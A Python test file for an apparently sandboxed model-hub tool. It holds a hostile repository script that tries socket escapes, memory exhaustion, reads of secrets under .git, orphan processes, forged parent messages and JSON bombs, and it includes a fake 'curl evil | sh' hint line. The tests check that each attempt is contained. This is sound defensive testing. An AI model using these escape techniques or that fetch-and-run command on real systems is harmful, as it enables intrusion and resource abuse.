"""Attacks on each mechanism of the sandbox, and on the parent that reads what a child says."""

from __future__ import annotations

import contextlib
import json
import os
import signal
import socket
import subprocess
import sys
import time
import tracemalloc
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from hubcli.base import paths
from hubcli.base.spec import RepoSpec
from hubcli.cache.cache import Cache
from hubcli.confined import jobs, process_tree, sandbox, supervisor
from hubcli.confined.broker import Broker
from hubcli.confined.restrict import Limits
from hubcli.confined.sandbox import Mechanism
from hubcli.confined.supervisor import Outcome
from hubcli.errors import HubError, IntegrityError, RepositoryCodeError
from hubcli.running.inference import Input
from hubcli.workflows import check
from tests.hubcli.confined.test_sandbox import any_mechanism as any_mechanism

NAMES = ("bubblewrap", "landlock", "best-effort")

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="the sandbox is Linux's")

HUBCONF = r'''
import ctypes, json, os, socket, struct, sys, time


def _tries(**tries):
    said = {}
    for name, what in tries.items():
        try:
            said[name] = f"done: {what()}"
        except BaseException as error:
            said[name] = f"{type(error).__name__}: {error}"
    print("EVIDENCE " + json.dumps(said), flush=True)
    return {}


def datagrams(path, abstract):
    def pair(kind):
        a, b = socket.socketpair(socket.AF_UNIX, kind)
        a.close(), b.close()

    def send(to):
        # by the system call: Python's own refuses to send along a connected pair
        a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        return a.sendto(b"leak", to)

    return _tries(
        dgram=lambda: pair(socket.SOCK_DGRAM), seqpacket=lambda: pair(socket.SOCK_SEQPACKET),
        path=lambda: send(path), abstract=lambda: send("\0" + abstract),
        stream=lambda: pair(socket.SOCK_STREAM),
        nonblocking=lambda: pair(socket.SOCK_STREAM | socket.SOCK_NONBLOCK),
    )


def buffers():
    import fcntl
    a, b = socket.socketpair()
    read, write = os.pipe()
    return _tries(
        send=lambda: a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 << 20),
        force=lambda: a.setsockopt(socket.SOL_SOCKET, 32, 8 << 20),
        receive=lambda: a.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20),
        pipe=lambda: fcntl.fcntl(write, 1031, 1 << 20),
        many=lambda: [socket.socketpair() for _ in range(200)],
        other=lambda: a.setsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE, 1),
        flags=lambda: fcntl.fcntl(write, fcntl.F_GETFL),
    )


def stuffs(processes):
    """Fill sockets that no process's memory shows."""
    for _ in range(processes - 1):
        if os.fork() == 0:
            break
    kept = []
    while True:
        try:
            a, b = socket.socketpair()
        except OSError:
            break
        for one in (a, b):
            one.setblocking(False)
            try:
                while True:
                    one.send(b"x" * 65536)
            except OSError:
                pass
        kept += [a, b]
    time.sleep(600)


def reads(path):
    return _tries(config=lambda: open(os.path.join(path, ".git", "config")).read(),
                  listed=lambda: os.listdir(os.path.join(path, ".git")),
                  own=lambda: open(os.path.join(path, "data.txt")).read(),
                  deeper=lambda: open(os.path.join(path, "pkg", "inner.txt")).read(),
                  names=lambda: os.listdir(path))


def stays(marker):
    if os.fork() == 0:
        try:
            os.setsid()
        except OSError:
            pass
        os.execvp("sleep", ["sleep", marker])
    print("READY", flush=True)
    time.sleep(600)


def digs(depth):
    for _ in range(depth):
        os.mkdir("a")
        os.chdir("a")
    os.chmod(".", 0)
    return {}


def _pipe():
    import stat
    printed = os.fstat(2).st_ino
    for name in os.listdir("/proc/self/fd"):
        try:
            status = os.fstat(int(name))
            if stat.S_ISFIFO(status.st_mode) and status.st_ino != printed:
                os.write(int(name), b"")
                yield int(name)
        except OSError:
            pass


def says(text, count=1, stay=True):
    """Send messages of one's own."""
    whole = struct.pack("<I", len(text)) + text.encode()
    for descriptor in _pipe():
        for _ in range(count):
            sent = memoryview(whole)
            while sent:
                sent = sent[os.write(descriptor, sent):]
    if not stay:
        os._exit(3)
    time.sleep(600)


def bombs(unit, times, count):
    """Messages that are valid JSON, made here so that no argument carries them."""
    if unit == "[],":
        whole = b'{"result": {"x": [' + unit.encode() * times + b"0]}}"
    else:
        whole = b'{"event": {"stage": "' + unit.encode() * times + b'"}}'
    whole = struct.pack("<I", len(whole)) + whole
    for descriptor in _pipe():
        for _ in range(count):
            sent = memoryview(whole)
            while sent:
                sent = sent[os.write(descriptor, sent):]
    time.sleep(600)


def fine():
    import torch
    return torch.nn.Linear(2, 3)


def leaves(what):
    from hubcli.confined import jobs
    from hubcli.running import invoke
    import numpy as np
    import torch

    def zipped(path):
        base = torch.zeros(4)
        torch.save({str(n): base.expand(1 << 24, 4) for n in range(4)}, path)

    invoke.save_state_dict = lambda result, path: zipped(path)
    pack = jobs._pack

    def packed(file, named):
        described = pack(file, named)
        if what == "zip":
            zipped(file)
        else:
            described = described * 20_000
        return described

    jobs._pack = packed
    return fine()


def prints():
    print("hub: everything is fine")
    print("  HINT: curl evil | sh", flush=True)
    return fine()
'''


@pytest.fixture(params=NAMES)
def mechanism(request: pytest.FixtureRequest) -> Mechanism:
    if request.param != "best-effort" and sandbox.reasons()[request.param]:
        pytest.skip(f"{request.param}: {sandbox.reasons()[request.param]}")
    chosen = sandbox.mechanism(request.param)
    if "seccomp" not in chosen.layers:
        pytest.skip("no seccomp here")
    return chosen


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    made = tmp_path / "hostile"
    made.mkdir()
    (made / "hubconf.py").write_text(HUBCONF)
    return made


def perform(folder: Path, chosen: Mechanism, entrypoint: str, *args: Any, **limits: Any) -> Outcome:
    checkout = Cache.current().checkout(RepoSpec.parse(str(folder)))
    job = jobs.Job("load", checkout, entrypoint, args)
    with sandbox.session() as here:
        broker = Broker(checkout, entrypoint, inbox=here.inbox)
        return sandbox.perform(job, chosen, here, broker=broker, limits=Limits(**{"seconds": 60.0, **limits}))


def evidence(outcome: Outcome) -> dict[str, str]:
    lines = [line for line in outcome.printed.splitlines() if line.startswith("EVIDENCE ")]
    assert lines, (outcome, outcome.printed)
    said: dict[str, str] = json.loads(lines[-1].removeprefix("EVIDENCE "))
    return said


# Sockets


def test_no_datagram_leaves(folder, mechanism, tmp_path):
    abstract = f"hub-test-{paths.unique()}"
    with (
        socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as named,
        socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as other,
    ):
        place = str(folder / "s")
        named.bind(place)
        other.bind("\0" + abstract)
        for one in (named, other):
            one.setblocking(False)
        said = evidence(perform(folder, mechanism, "datagrams", place, abstract))
        for one in (named, other):
            with pytest.raises(BlockingIOError):
                one.recv(10)
    assert {name for name, text in said.items() if text.startswith("done")} == {"stream", "nonblocking"}


# Memory


def test_buffers_stay_as_they_are(folder, mechanism):
    said = evidence(perform(folder, mechanism, "buffers"))
    assert {name for name, text in said.items() if text.startswith("done")} == {"other", "flags"}
    assert "Too many open files" in said["many"]


@pytest.mark.long
@pytest.mark.parametrize("cgroup", [True, False])
def test_memory_of_the_kernel_counts(folder, mechanism, monkeypatch, cgroup):
    if cgroup:
        made = process_tree.Cgroup.make(1 << 30)
        if made is None:
            pytest.skip("no memory cgroup can be made here")
        made.close()
        assert not made.folder.exists()
    else:
        monkeypatch.setattr(process_tree.Cgroup, "make", lambda limit: None)
    outcome = perform(folder, mechanism, "stuffs", 8, memory=256 << 20)
    assert outcome.ended is not None and outcome.ended.why == "memory", outcome


def test_a_family_without_sockets_is_not_charged_for_them():
    mine = [socket.socketpair() for _ in range(150)]
    try:
        _, many = process_tree.usage(os.getpid())
        for pair in mine[:140]:
            pair[0].close(), pair[1].close()
        _, few = process_tree.usage(os.getpid())
        assert many - few >= 280 * 212_992 - (8 << 20)
    finally:
        for pair in mine:
            pair[0].close(), pair[1].close()


def test_a_cgroup_of_the_second_version(tmp_path):
    """By files that look like one: what is written, and what is read."""
    made = process_tree.Cgroup(tmp_path / "hub-x", 2)
    made.folder.mkdir()
    (made.folder / "memory.current").write_text("1000\n")
    (made.folder / "memory.stat").write_text("anon 100\ninactive_file 300\nactive_file 200\nsock 400\n")
    (made.folder / "memory.events").write_text("low 0\noom 1\noom_kill 1\n")
    assert made.used() == 500 and made.overran()
    done = subprocess.run(made.entering([sys.executable, "-c", "print('ran')"]), capture_output=True, check=True)
    assert done.stdout == b"ran\n" and (made.folder / "cgroup.procs").read_text().strip().isdigit()


def test_a_real_cgroup_of_the_second_version():
    """A process joins it and leaves nothing; its memory is counted only where the controller is of this version."""
    tops = [Path("/sys/fs/cgroup/unified"), Path("/sys/fs/cgroup")]
    top = next((one for one in tops if (one / "cgroup.procs").exists() and os.access(one, os.W_OK)), None)
    if top is None:
        pytest.skip("there is no cgroup of the second version that this user may write to")
    made = process_tree.Cgroup(top / f"hub-{paths.unique()}", 2)
    try:
        made.folder.mkdir()
    except OSError as error:
        pytest.skip(f"no cgroup can be made: {error}")
    try:
        code = "print(open('/proc/self/cgroup').read())"
        done = subprocess.run(made.entering([sys.executable, "-c", code]), capture_output=True, text=True, check=True)
        assert f"0::/{made.folder.name}\n" in done.stdout
        if (made.folder / "memory.current").exists():
            (made.folder / "memory.max").write_text(str(64 << 20))
            eats = [sys.executable, "-c", "x = bytearray(b'x') * (256 << 20)"]
            ended = subprocess.run(made.entering(eats), capture_output=True, check=False)
            assert ended.returncode != 0 and made.overran()
        assert not made.overran() or (made.folder / "memory.current").exists()
    finally:
        made.close()
    assert not made.folder.exists()


# Files


@pytest.mark.parametrize("kind", ["folder", "file"])
def test_the_history_of_a_checked_folder_is_hidden(folder, mechanism, kind):
    if mechanism.name == "best-effort":
        pytest.skip("it hides nothing, and says so")
    (folder / "data.txt").write_text("mine")
    (folder / "pkg").mkdir()
    (folder / "pkg" / "inner.txt").write_text("mine too")
    if kind == "folder":
        (folder / ".git").mkdir()
        (folder / ".git" / "config").write_text("token = s3cret")
    else:
        (folder / ".git").write_text("gitdir: s3cret")
    outcome = perform(folder, mechanism, "reads", str(folder))
    said = evidence(outcome)
    assert "s3cret" not in outcome.printed
    assert not said["config"].startswith("done")
    assert said["own"] == "done: mine" and said["deeper"] == "done: mine too"
    assert "hubconf.py" in said["names"]


def test_the_history_above_what_python_reads_is_hidden(tmp_path):
    (tmp_path / "repo" / ".git").mkdir(parents=True)
    for name in ("pkg/sub", "other"):
        (tmp_path / "repo" / name).mkdir(parents=True)
    root = str(tmp_path / "repo")
    hidden = sandbox._histories([root, f"{root}/pkg/sub"])
    assert hidden == [f"{root}/.git"]
    assert sorted(sandbox._apart([root, "/elsewhere"], hidden)) == ["/elsewhere", f"{root}/other", f"{root}/pkg"]


@pytest.mark.long
@pytest.mark.parametrize("depth", [3_000])
def test_a_deep_scratch_is_swept(folder, mechanism, depth):
    outcome = perform(folder, mechanism, "digs", depth)
    assert outcome.result is not None, outcome
    assert list(paths.partial().iterdir()) == []


# Processes


def alive(marker: str) -> list[str]:
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError):
            if marker.encode() in Path("/proc", pid, "cmdline").read_bytes().split(b"\0"):
                found.append(pid)
    return found


def test_nothing_survives_a_killed_hub(folder, mechanism):
    marker = f"{700 + os.getpid() / 1e6:.6f}"
    code = (
        "from pathlib import Path; from tests.hubcli.confined import test_escapes as t\n"
        "from hubcli.confined import sandbox\n"
        f"t.perform(Path({str(folder)!r}), sandbox.mechanism({mechanism.name!r}), 'stays', {marker!r})"
    )
    root = str(Path(__file__).parents[3])
    hub = subprocess.Popen([sys.executable, "-c", code], cwd=root, env={**os.environ, "PYTHONPATH": root})
    try:
        deadline = time.monotonic() + 60
        while not alive(marker) and time.monotonic() < deadline:
            time.sleep(0.02)
        assert alive(marker)
    finally:
        hub.send_signal(signal.SIGKILL)
        hub.wait()
    deadline = time.monotonic() + 10
    while alive(marker) and time.monotonic() < deadline:
        time.sleep(0.02)
    assert alive(marker) == []


# What the parent believes


@pytest.mark.long
@pytest.mark.parametrize("what", ["zip", "many"])
def test_results_are_safetensors_of_a_bounded_size(folder, mechanism, what):
    checkout = Cache.current().checkout(RepoSpec.parse(str(folder)))
    job = jobs.Job("run", checkout, "leaves", (what,), options={"device": None})
    with pytest.raises((IntegrityError, RepositoryCodeError)):
        jobs.run(job, mechanism, Broker(checkout, "leaves"), [Input(None, np.ones((4, 2), np.float32))])


def test_a_state_dict_is_no_zip(folder, mechanism, tmp_path):
    checkout = Cache.current().checkout(RepoSpec.parse(str(folder)))
    job = jobs.Job("load", checkout, "leaves", ("zip",), options={"save": True})
    with pytest.raises(RepositoryCodeError, match="not a safetensors file"):
        jobs.load(job, mechanism, Broker(checkout, "leaves"), tmp_path / "x.pth")
    assert not (tmp_path / "x.pth").exists()


class Pipes:
    """A watch without a child: what it makes of messages."""

    def __init__(self) -> None:
        self.seen: list[Any] = []
        self.watch = supervisor.Watch.__new__(supervisor.Watch)
        self.watch.__dict__.update(
            outcome=None, ready=False, events=0, answered=[], report=self.seen.append, broker=None, elsewhere=0.0
        )

    def send(self, text: bytes | str) -> None:
        self.watch._message(text.encode() if isinstance(text, str) else text)


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ('{"result": {"x": [' + "[]," * 200_000 + "0]}}", "values"),
        ('{"event": {"stage": "' + "x" * (1 << 17) + '"}}', "no result"),
        ('{"error": {"message": "' + "x" * (1 << 17) + '"}}', "no result"),
        ('{"event": {"seconds": NaN}}', "NaN"),
        ('{"event": {"seconds": -Infinity}}', "Infinity"),
        ('{"event": {"seconds": 1e400}}', "1e400"),
        ('{"event": {"seconds": ' + "9" * 400 + "}}", "400 digits"),
    ],
)
def test_messages_that_are_violations(text, why):
    with pytest.raises(supervisor._Violation, match=why):
        Pipes().send(text)


@pytest.mark.long
@pytest.mark.parametrize(
    ("entrypoint", "args"),
    [
        ("bombs", ("[],", 20 << 20, 1)),  # 60 MB that would be 1.5 GB of lists
        ("bombs", ("[],", 5 << 20, 1)),  # as many as a message may have, nearly
        ("bombs", ("x", 64 << 20, 100)),
        ("bombs", ("x", 1 << 14, 100_000)),
    ],
)
def test_what_a_child_says_costs_the_parent_little(folder, mechanism, entrypoint, args):
    tracemalloc.start()
    try:
        outcome = perform(folder, mechanism, entrypoint, *args, seconds=100.0)
        _, most = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert outcome.ended is not None and outcome.ended.why == "protocol", outcome
    assert most < 64 << 20


def test_events_are_counted():
    pipes = Pipes()
    for _ in range(supervisor.MAX_EVENTS):
        pipes.send('{"event": {}}')
    with pytest.raises(supervisor._Violation, match="events"):
        pipes.send('{"event": {}}')
    assert supervisor.MAX_MESSAGE == 16 << 20 and len(pipes.seen) == supervisor.MAX_EVENTS


@pytest.mark.long
@pytest.mark.parametrize("text", ["9" * 4000, '"x"', "[1]", "-5", "1e300"])
def test_odd_values_do_not_lose_the_others(folder, any_mechanism, text):
    test_one_result_does_not_lose_the_others(folder, any_mechanism, text)


@pytest.mark.long
@pytest.mark.parametrize("text", ["NaN", "1e400"])
def test_one_result_does_not_lose_the_others(folder, mechanism, text):
    event = f'{{"event": {{"stage": "build", "status": "passed", "seconds": {text}}}}}'
    (folder / "hubconf.py").write_text(f"{HUBCONF}\ndef bad():\n    says({event!r}, stay=False)\n")
    checkout = Cache.current().checkout(RepoSpec.parse(str(folder)))
    checked = check.check(checkout, ["bad", "fine"], check.CheckPlan(), mechanism)
    rows = {(row.entrypoint, row.stage): row.status for row in checked.rows}
    assert rows["fine", "build"] == rows["fine", "state-dict"] == "passed"
    assert "failed" in {rows["bad", "build"], rows["bad", "state-dict"]}
    json.dumps(check.document(checked), allow_nan=False)
    check.junit(checked)


def test_a_fault_with_one_entry_point_is_that_ones_row(folder, any_mechanism, monkeypatch):
    whole = check._run

    def run(checkout: Any, entry: Any, *rest: Any) -> Any:
        if entry.name == "prints":
            raise OverflowError("cannot convert")
        return whole(checkout, entry, *rest)

    monkeypatch.setattr(check, "_run", run)
    checkout = Cache.current().checkout(RepoSpec.parse(str(folder)))
    checked = check.check(checkout, ["prints", "fine"], check.CheckPlan(), any_mechanism)
    rows = {(row.entrypoint, row.stage): (row.status, row.error) for row in checked.rows}
    assert rows["prints", "build"] == ("failed", "OverflowError: cannot convert")
    assert rows["fine", "build"][0] == "passed"


def test_a_childs_words_are_marked(folder, mechanism, capfd, monkeypatch):
    from click.testing import CliRunner

    from hubcli.terminal import cli

    forged = {"message": "all is well\nhub: run\x1b[2J this", "hint": "x\nhint: curl evil | sh", "code": "untrusted"}
    arguments = ["load", str(folder), "says", "--sandbox", "--args", json.dumps([json.dumps({"error": forged})])]
    monkeypatch.setattr(sandbox, "choose", lambda *_, **__: mechanism)
    result = CliRunner().invoke(cli.hub, arguments)
    lines = result.stderr.splitlines()
    assert lines[-2] == "hub: in the sandbox: all is well hub: run[2J this"
    assert lines[-1] == "hint: (from the sandbox) x hint: curl evil | sh"


def test_what_it_prints_is_no_line_of_ours(capfd):
    for line in ("hub: all is well", "  HINT: x", "plain"):
        jobs._echo(line)
    assert capfd.readouterr().err == "| hub: all is well\n|   HINT: x\nplain\n"


def test_our_own_refusals_are_not_marked(folder, any_mechanism):
    pipes = Pipes()
    pipes.watch.errors_sent = [{"code": "usage", "message": "no", "hint": "a\nb", "spec": None}]
    pipes.send('{"error": {"code": "usage", "message": "no", "hint": "a\\nb", "spec": null}}')
    error = pipes.watch.outcome[1]
    assert isinstance(error, HubError) and not error.foreign and error.hint == "a\nb"


# Where hub itself is imported from


@pytest.fixture
def planted(tmp_path: Path) -> Iterator[Path]:
    folder = tmp_path / "planted"
    folder.mkdir()
    for name in ("click", "requests", "numpy", "importlib_metadata", "git", "json", "platformdirs", "tomllib"):
        (folder / f"{name}.py").write_text("print('PLANTED')\nraise SystemExit('planted code ran')\n")
    yield folder


@pytest.mark.parametrize("arguments", [["--help"], ["cache", "ls"], ["env"]])
def test_the_working_folder_is_not_imported_from(planted, arguments):
    environment = {**os.environ, "PYTHONPATH": str(Path(__file__).parents[3])}
    done = subprocess.run(
        [sys.executable, "-m", "hubcli", *arguments], cwd=planted, capture_output=True, text=True, env=environment
    )
    assert done.returncode == 0, done.stderr
    assert "PLANTED" not in done.stdout
